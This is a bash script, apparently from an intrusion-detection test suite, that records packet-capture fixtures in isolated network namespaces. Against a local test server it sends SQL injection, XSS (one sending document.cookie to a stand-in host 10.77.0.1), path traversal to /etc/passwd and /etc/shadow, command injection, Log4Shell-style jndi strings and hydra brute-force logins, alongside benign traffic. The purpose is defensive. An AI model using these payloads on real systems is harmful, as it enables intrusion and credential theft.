# shellcheck shell=bash
# record-stream-fixtures.sh — recorders of the TCP stream fixtures, sourced by record-fixtures.sh
# (which provides the namespaces, tcpdump_start / cap_stop / finish and the table of fixtures).
#
# Every attack here is one a single-packet view misses: requests after the first on a keep-alive
# connection, pipelined requests, requests split over segments, POST bodies, SQL injection and XSS
# in headers, MySQL versioned comments, and brute force read from the server's replies (HTTP
# 401/403, FTP 530) over few connections. The benign ones keep
# connections open for 40+ requests, download 20 MB and log in normally (one typo included).
#
# The victim runs a small HTTP/1.1 application (scripts/lib/http-app-server.py) on port 8080;
# clients are curl, hydra and scripts/lib/http-stream-client.py (http.client and raw sockets).

APP_PORT=8080
APP_PASSWORD=correct-horse-battery-staple
APP_PID=""
PY=/usr/bin/python3

start_app_server() { # [DOWNLOAD_BYTES]
	ip netns exec "$SNP_NS_V" "$PY" "$HERE/lib/http-app-server.py" "$APP_PORT" "$APP_PASSWORD" "${1:-20971520}" \
		>"$SNP_TMP/app.log" 2>&1 9>&- &
	APP_PID=$!
	SNP_PIDS+=("$APP_PID")
	snp_wait_listen "$SNP_NS_V" "$APP_PORT"
}

stop_pid() { # PID — a server this script started
	kill -TERM "$1" 2>/dev/null || true
	wait "$1" 2>/dev/null || true
}

app_url() { echo "http://$SNP_IP_V:$APP_PORT$1"; }
stream_client() { snp_in_a "$PY" "$HERE/lib/http-stream-client.py" "$1" "$SNP_IP_V" "$APP_PORT" "${@:2}"; }
# curl from the attacker namespace. "${NEXT[@]}" starts the next request on the same connection
# (curl --next), with its own output and report options.
CURL_W='    %{http_code} %{method} %{url_effective} (new connections: %{num_connects})\n'
NEXT=(--next --noproxy '*' -g -sS --max-time 20 -o /dev/null -w "$CURL_W")
curl_a() { snp_in_a curl --noproxy '*' -g -sS --max-time 20 -o /dev/null -w "$CURL_W" "$@"; }

record_app_fixture() { # NAME COMMAND… — the app server up, a capture around COMMAND
	local name=$1
	shift
	start_app_server
	tcpdump_start "$name"
	"$@"
	cap_stop
	stop_pid "$APP_PID"
	finish "$name"
}

# Requests on one connection (tshark: how many, over how many connections), for the log.
requests_per_connection() { # FILE
	tshark -n -r "$1" -Y http.request -T fields -e tcp.stream 2>/dev/null | sort | uniq -c | awk '{printf "%s%s", (NR > 1 ? ", " : ""), $1} END {print " request(s) per connection"}'
}

# --- every request of a stream ------------------------------------------------------------------
rec_http_keepalive_attacks_pcap() { record_app_fixture http-keepalive-attacks.pcap stream_client keepalive-attacks; }
rec_http_pipelined_pcap() { record_app_fixture http-pipelined.pcap stream_client pipelined; }
rec_http_split_pcap() {
	record_app_fixture http-split.pcap stream_client split
	snp_log "  $(tshark -n -r "$FIX/http-split.pcap" -Y 'tcp.len > 0 && tcp.dstport == 8080' 2>/dev/null | wc -l) client segments"
}

# --- POST bodies: one keep-alive connection each (curl --next), all five classes ---------------
post_form_requests() {
	local u
	u=$(app_url /comment)
	curl_a -d 'name=alice&comment=hello+there' "$u" \
		"${NEXT[@]}" -d "id=7&sort=name' OR 'x'='x" "$u" \
		"${NEXT[@]}" -d 'comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E' "$u" \
		"${NEXT[@]}" -d 'file=....//....//....//etc/passwd&file2=../../../../etc/shadow' "$u" \
		"${NEXT[@]}" -d 'host=127.0.0.1%26%26id' "$u" \
		"${NEXT[@]}" -d 'name=${jndi:dns://10.77.0.1/x}' "$u" \
		"${NEXT[@]}" -F 'title=holiday' -F 'note=see you ; later' "$(app_url /upload)"
}
rec_http_post_form_pcap() { record_app_fixture http-post-form.pcap post_form_requests; }

post_json_requests() {
	local u
	u=$(app_url /api/items)
	printf '{"filter":"name\\u0027 UNION SELECT password FROM users--","page":1}' >"$SNP_TMP/chunked.json"
	curl_a --json '{"name":"alice","tags":["a","b"]}' "$u" \
		"${NEXT[@]}" --json '{"q":"<script>fetch(\"//10.77.0.1/\"+document.cookie)</script>"}' "$u" \
		"${NEXT[@]}" --json '{"template":"../../../../../../etc/passwd"}' "$u" \
		"${NEXT[@]}" --json '{"target":"10.0.0.1; cat /etc/shadow"}' "$u" \
		"${NEXT[@]}" --json '{"user":"${jndi:ldap://10.77.0.1:1389/Exploit}"}' "$u" \
		"${NEXT[@]}" -H 'Content-Type: application/json' -H 'Transfer-Encoding: chunked' --data-binary "@$SNP_TMP/chunked.json" "$u"
}
rec_http_post_json_pcap() { record_app_fixture http-post-json.pcap post_json_requests; }

# --- headers and obfuscation --------------------------------------------------------------------
header_injection_requests() {
	curl_a -H "Referer: http://10.77.0.2:8080/list?id=1' AND 1=1 UNION SELECT null,version()--" "$(app_url /list)" \
		"${NEXT[@]}" -b 'session=abc; lang=<script>alert(1)</script>' "$(app_url /)" \
		"${NEXT[@]}" -H "X-Forwarded-For: 10.0.0.1' OR '1'='1" "$(app_url /stats)" \
		"${NEXT[@]}" -H 'Referer: http://10.77.0.2:8080/docs/' -b 'session=6f1c2a9e0b7d4c3f; theme=dark' -H 'X-Forwarded-For: 192.0.2.10' "$(app_url /docs/)"
}
rec_http_header_injection_pcap() { record_app_fixture http-header-injection.pcap header_injection_requests; }

versioned_comment_requests() {
	curl_a "$(app_url '/item?id=-1%20/*!50000UNION*/%20/*!50000SELECT*/%201,user(),3--%20-')" \
		"${NEXT[@]}" "$(app_url '/item?id=1/*!12345UNION/**/SELECT*/2')"
}
rec_http_sqli_versioned_pcap() { record_app_fixture http-sqli-versioned.pcap versioned_comment_requests; }

# --- brute force read from replies --------------------------------------------------------------
password_list() { # FILE N
	local i
	for ((i = 1; i <= $2; i++)); do printf 'guess-%03d\n' "$i"; done >"$1"
}

hydra_a() { # hydra arguments… (its output, cut to the summary lines)
	(cd "$SNP_TMP" && snp_in_a timeout 180 hydra -I -o /dev/null "$@" 2>&1 |
		sed -n '/\[DATA\]\|valid password\|completed\|ERROR/s/^/    /p') || true
}

rec_hydra_http_basic_pcap() {
	snp_require_tools hydra
	password_list "$SNP_TMP/pw-http.txt" 40
	record_app_fixture hydra-http-basic.pcap hydra_a -l admin -P "$SNP_TMP/pw-http.txt" -t 4 -s "$APP_PORT" "$SNP_IP_V" http-get /protected/
	snp_log "  $(tshark -n -r "$FIX/hydra-http-basic.pcap" -Y 'http.response.code == 401' 2>/dev/null | wc -l) x 401; $(requests_per_connection "$FIX/hydra-http-basic.pcap")"
}

rec_hydra_http_form_pcap() {
	snp_require_tools hydra
	password_list "$SNP_TMP/pw-form.txt" 40
	record_app_fixture hydra-http-form.pcap hydra_a -l admin -P "$SNP_TMP/pw-form.txt" -t 4 -s "$APP_PORT" "$SNP_IP_V" \
		http-post-form '/login:user=^USER^&pass=^PASS^:F=denied'
	snp_log "  $(tshark -n -r "$FIX/hydra-http-form.pcap" -Y 'http.response.code == 403' 2>/dev/null | wc -l) x 403; $(requests_per_connection "$FIX/hydra-http-form.pcap")"
}

# pyftpdlib that never hangs up on wrong passwords (max_login_attempts): hydra keeps its four
# connections open and tries every password on them.
start_ftp_server() { # PID in FTP_PID
	mkdir -p "$SNP_TMP/ftp-root"
	cat >"$SNP_TMP/ftp-keepopen.py" <<'PY'
import logging, sys
from pyftpdlib.authorizers import DummyAuthorizer
from pyftpdlib.handlers import FTPHandler
from pyftpdlib.servers import FTPServer
logging.basicConfig(level=logging.WARNING)
auth = DummyAuthorizer()
auth.add_user("admin", sys.argv[2], sys.argv[1], perm="elr")
FTPHandler.authorizer = auth
FTPHandler.banner = "snoopy test ftp ready"
FTPHandler.max_login_attempts = 100000
FTPHandler.auth_failed_timeout = 0.01
server = FTPServer(("0.0.0.0", 21), FTPHandler)
server.serve_forever()
PY
	ip netns exec "$SNP_NS_V" "$PY" "$SNP_TMP/ftp-keepopen.py" "$SNP_TMP/ftp-root" "$APP_PASSWORD" >"$SNP_TMP/ftp.log" 2>&1 9>&- &
	FTP_PID=$!
	SNP_PIDS+=("$FTP_PID")
	snp_wait_listen "$SNP_NS_V" 21
}

rec_hydra_ftp_keepopen_pcap() {
	local f=$OUT/hydra-ftp-keepopen.pcap
	snp_require_tools hydra
	"$PY" -c 'import pyftpdlib' 2>/dev/null || snp_die "needs python3-pyftpdlib (apt-get install -y python3-pyftpdlib)"
	start_ftp_server
	password_list "$SNP_TMP/pw-ftp.txt" 200
	tcpdump_start hydra-ftp-keepopen.pcap
	hydra_a -l admin -P "$SNP_TMP/pw-ftp.txt" -t 4 "ftp://$SNP_IP_V"
	cap_stop
	stop_pid "$FTP_PID"
	snp_log "  $(tshark -n -r "$f" -Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0 && tcp.dstport == 21' 2>/dev/null | wc -l) connections," \
		"$(tshark -n -r "$f" -Y 'ftp.response.code == 530' 2>/dev/null | wc -l) x 530"
	finish hydra-ftp-keepopen.pcap
}

# dovecot (POP3 110, IMAP 143) with one user, plain text logins allowed, no failure delay.
start_dovecot() {
	local d=$SNP_TMP/dovecot
	mkdir -p "$d/run" "$d/state" "$d/mail"
	chmod 755 "$SNP_TMP" "$d"
	echo "admin:{PLAIN}$APP_PASSWORD::::::" >"$d/users"
	chmod 644 "$d/users"
	chown dovenull "$d/run" 2>/dev/null || true
	chown nobody:nogroup "$d/mail" # the mail user of the static userdb below
	cat >"$d/dovecot.conf" <<EOF
protocols = pop3 imap
listen = *
base_dir = $d/run
state_dir = $d/state
log_path = $d/dovecot.log
ssl = no
disable_plaintext_auth = no
auth_mechanisms = plain login
auth_failure_delay = 0
mail_location = maildir:$d/mail/%u
passdb {
  driver = passwd-file
  args = scheme=PLAIN $d/users
}
userdb {
  driver = static
  args = uid=nobody gid=nogroup home=$d/mail/%u
}
EOF
	ip netns exec "$SNP_NS_V" /usr/sbin/dovecot -F -c "$d/dovecot.conf" >"$d/stdout.log" 2>&1 9>&- &
	DOVECOT_PID=$!
	SNP_PIDS+=("$DOVECOT_PID")
	snp_wait_listen "$SNP_NS_V" 110
	snp_wait_listen "$SNP_NS_V" 143
}

# aiosmtpd (python3-aiosmtpd) on port 25 with AUTH LOGIN / PLAIN over plain text.
start_smtpd() {
	cat >"$SNP_TMP/smtpd.py" <<'PY'
import sys, time
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult
class Sink:
    async def handle_DATA(self, server, session, envelope):
        return "250 OK"
def check(server, session, envelope, mechanism, data):
    return AuthResult(success=(data.login == b"admin" and data.password == sys.argv[1].encode()), handled=False)
c = Controller(Sink(), hostname="0.0.0.0", port=25, authenticator=check, auth_require_tls=False)
c.start()
while True:
    time.sleep(3600)
PY
	ip netns exec "$SNP_NS_V" "$PY" "$SNP_TMP/smtpd.py" "$APP_PASSWORD" >"$SNP_TMP/smtpd.log" 2>&1 9>&- &
	SMTPD_PID=$!
	SNP_PIDS+=("$SMTPD_PID")
	snp_wait_listen "$SNP_NS_V" 25
}

# --- benign -------------------------------------------------------------------------------------
rec_benign_keepalive_pcap() {
	record_app_fixture benign-keepalive.pcap stream_client benign-keepalive "$APP_PASSWORD"
	snp_log "  $(requests_per_connection "$FIX/benign-keepalive.pcap")"
}

# 20 MB from the app (headers only: -s 200), then more requests on the same connection.
download_requests() {
	curl_a "$(app_url /download)" "${NEXT[@]}" "$(app_url '/search?q=union+station')" \
		"${NEXT[@]}" -d 'q=after+the+download' "$(app_url /search)" "${NEXT[@]}" "$(app_url /index.html)"
}
rec_benign_download_keepalive_pcap() {
	start_app_server 20971520
	veth_mtu 9000
	tcpdump_start benign-download-keepalive.pcap -s 200
	download_requests
	cap_stop
	veth_mtu 1500
	stop_pid "$APP_PID"
	finish benign-download-keepalive.pcap
}

# Logins as people make them: Basic auth (challenge, then the right password; one typo), a form
# login with one typo, FTP with one typo then the right password on the same connection,
# POP3 / IMAP / SMTP logins (one typo each).
benign_login_requests() {
	local u
	u=$(app_url /protected/)
	curl_a "$u" "${NEXT[@]}" -u "admin:$APP_PASSWORD" "$u" "${NEXT[@]}" -u "admin:$APP_PASSWORD" "$(app_url /protected/report.html)"
	curl_a -u 'admin:correct-horse-battery-stapel' "$u" "${NEXT[@]}" -u "admin:$APP_PASSWORD" "$u"
	curl_a -d 'user=admin&pass=correct-horse-batery-staple' "$(app_url /login)" "${NEXT[@]}" -d "user=admin&pass=$APP_PASSWORD" "$(app_url /login)"
	snp_in_a "$PY" - "$SNP_IP_V" "$APP_PASSWORD" <<'PY'
import ftplib, imaplib, poplib, smtplib, sys
host, pw = sys.argv[1], sys.argv[2]
ftp = ftplib.FTP(host, timeout=10)
try:
    ftp.login("admin", pw + "x")
except ftplib.error_perm as e:
    print(f"    ftp typo: {e}")
print(f"    ftp: {ftp.login('admin', pw)}")
ftp.quit()
for _ in range(3):
    f = ftplib.FTP(host, timeout=10)
    f.login("admin", pw)
    f.nlst()
    f.quit()
p = poplib.POP3(host, timeout=10)
p.user("admin")
try:
    p.pass_(pw + "x")
except poplib.error_proto as e:
    print(f"    pop3 typo: {e}")
p = poplib.POP3(host, timeout=10)
p.user("admin")
print(f"    pop3: {p.pass_(pw)}")
p.quit()
i = imaplib.IMAP4(host)
try:
    i.login("admin", pw + "x")
except imaplib.IMAP4.error as e:
    print(f"    imap typo: {e}")
print(f"    imap: {i.login('admin', pw)}")
i.logout()
s = smtplib.SMTP(host, 25, timeout=10)
s.ehlo("client.test")
try:
    s.login("admin", pw + "x")
except smtplib.SMTPAuthenticationError as e:
    print(f"    smtp typo: {e.smtp_code}")
print(f"    smtp: {s.login('admin', pw)[0]}")
s.quit()
PY
}
rec_benign_logins_pcap() {
	start_app_server
	start_ftp_server
	start_dovecot
	start_smtpd
	tcpdump_start benign-logins.pcap
	benign_login_requests
	cap_stop
	stop_pid "$APP_PID"
	stop_pid "$FTP_PID"
	stop_pid "$DOVECOT_PID"
	stop_pid "$SMTPD_PID"
	finish benign-logins.pcap
}
